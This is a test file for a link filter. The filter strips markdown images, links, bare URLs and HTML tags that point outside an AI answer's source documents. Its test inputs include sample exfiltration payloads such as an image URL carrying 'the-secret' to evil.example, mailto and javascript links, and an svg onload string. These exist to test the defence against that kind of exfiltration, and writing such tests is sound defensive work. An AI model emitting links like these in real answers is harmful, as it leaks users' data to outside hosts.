"""No answer leads its reader anywhere the documents do not."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.answer.links import MAX_HELD_CHARACTERS, REMOVED, LinkFilter, addresses

KNOWN = addresses(["See https://intra.example/handbook?v=2. Or (www.ours.example/x), please."])


def run(pieces: list[str]) -> tuple[str, int]:
    links = LinkFilter(KNOWN)
    return "".join(links.feed(piece) for piece in pieces) + links.finish(), links.removed


def test_the_addresses_of_the_passages_are_known_without_punctuation() -> None:
    assert {"https://intra.example/handbook?v=2", "www.ours.example/x"} == KNOWN


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Done. ![x](https://evil.example/?q=the-secret)", "Done. ![x]"),
        ('![x](\n  https://evil.example/p.png "title")', "![x]"),
        ("![x](data:image/png;base64,AAAA)", "![x]"),
        ("![](//evil.example/a.png)", "![]"),
        ("[click (me)](https://evil.example/a(b)c) now", "[click (me)] now"),
        ("[a](<https://evil.example/a b>)", "[a]"),
        ("[a](evil.example/x?y=1) and [b](www.evil.example)", "[a] and [b]"),
        ("[m](mailto:x@evil.example?body=secret) [j](javascript:alert(1))", "[m] [j]"),
        ("Go to https://evil.example/?d=abc, now.", f"Go to https {REMOVED}, now."),
        ("Go to www.evil.example/x.", f"Go to www {REMOVED}."),
        ("<https://evil.example>", f"<https {REMOVED}>"),
        ("xhttps://evil.example/a", f"xhttps {REMOVED}"),
        ("![z][r]\n\n[r]: https://evil.example/x", f"![z][r]\n\n[r]: https {REMOVED}"),
        ("![z][r]\n\n[r]: https://intra.example/handbook?v=2", f"![z][r]\n\n[r]: https {REMOVED}"),
        ("<img src='https://evil.example/x.png'>", f"‹img src='https {REMOVED}'>"),
        ("[1](https://evil.example)", "[1]"),
        ("https://evil.example/" + "x" * 5000 + " rest", f"https {REMOVED} rest"),
        ("[a](https://evil.example/" + "x" * 5000 + " rest", "[a] rest"),
        ("[a](https://evil.example/x", "[a]"),
    ],
)
def test_what_leads_elsewhere_is_taken_out_and_counted(answer: str, shown: str) -> None:
    text, removed = run([answer])
    assert text == shown
    assert removed >= 1


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("See https://intra.example/handbook?v=2.", "See https://intra.example/handbook?v=2."),
        ("www.ours.example/x!", "www.ours.example/x!"),
        ("[here](https://intra.example/handbook?v=2)", "[here] (https://intra.example/handbook?v=2)"),
        ("![here](https://intra.example/handbook?v=2)", "![here] (https://intra.example/handbook?v=2)"),
        ("[r](/path) [h](#a) [e]()", "[r] [h] [e]()"),
        ("a[i](x) f](y) [note](see below) [1] (a)", "a[i](x) f](y) [note](see below) [1] (a)"),
        ("a < b, <b>bold</b>, 1<2, 3://4, www. and ://", "a < b, <b>bold</b>, 1<2, 3://4, www. and ://"),
        ("<a href=x><svg/onload=1></script>", "‹a href=x>‹svg/onload=1>‹/script>"),
        ("ends: [", "ends: ["),
        ("ends ]", "ends ]"),
        ("ends :/", "ends :/"),
        ("ends <", "ends <"),
    ],
)  # fmt: skip
def test_what_stands_in_the_passages_or_leads_nowhere_stays_as_text(answer: str, shown: str) -> None:
    assert run([answer]) == (shown, 0)


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "![", "](", "https", "://", "evil.example", "/x", " ", "\n", "www", ".", "<", "img ",
     "a>", "/", ":", "intra.example/handbook?v=2", "word", "[r]: ", "é", "漢", '"', ">", "javascript:"]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
def test_the_split_into_deltas_does_not_matter(text: str, cuts: list[int]) -> None:
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    assert run([text[a:b] for a, b in pairwise(places)]) == run([text]) == run(list(text))


@given(TEXTS)
def test_no_address_of_elsewhere_is_left(text: str) -> None:
    shown, _ = run(list(text))
    left = addresses([shown]) - KNOWN
    assert not {address for address in left if re.match(r"(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)\w", address)}
    assert not re.search(r"\]\((?:[A-Za-z][A-Za-z0-9+.-]*:|//|www\.)", shown)
    assert not re.search(r"</?(?:img|a)\b", shown)


@given(st.lists(PIECES | st.text("htp:/.x", min_size=80, max_size=300), max_size=30))
def test_what_is_held_back_is_bounded(pieces: list[str]) -> None:
    links = LinkFilter(KNOWN)
    for character in "".join(pieces):
        links.feed(character)
        assert len(links._held) <= MAX_HELD_CHARACTERS


@given(st.text(st.characters(exclude_characters="<:.]")))
def test_text_without_links_passes_at_once(text: str) -> None:
    assert LinkFilter(KNOWN).feed(text) == text
